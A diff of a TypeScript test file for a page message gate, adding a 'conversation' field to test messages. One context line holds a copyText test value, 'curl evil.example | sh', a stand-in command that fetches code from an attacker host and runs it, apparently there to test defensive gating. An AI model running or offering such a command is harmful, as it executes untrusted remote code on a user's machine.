@@ -10,6 +10,7 @@ const copy: PageMessage = { type: 'copyText', text: 'curl evil.example | sh' };
 const ask: PageMessage = {
   type: 'ask',
   request: 1,
+  conversation: 'one',
   text: 'q',
   parent: null,
   askMode: 'auto',
@@ -95,7 +96,11 @@ it('the page gate takes drafts, requests for the state and stops from a page at 
   const { gate, fake, place } = open();
   fake.focusWindow(false);
   place.visible = false;
-  const messages: PageMessage[] = [{ type: 'ready' }, { type: 'draft', text: 'q' }, { type: 'stop', turnId: 'a' }];
+  const messages: PageMessage[] = [
+    { type: 'ready' },
+    { type: 'draft', conversation: 'one', text: 'q' },
+    { type: 'stop', turnId: 'a' },
+  ];
   expect(messages.map((message) => gate(message))).toEqual([true, true, true]);
 });
 
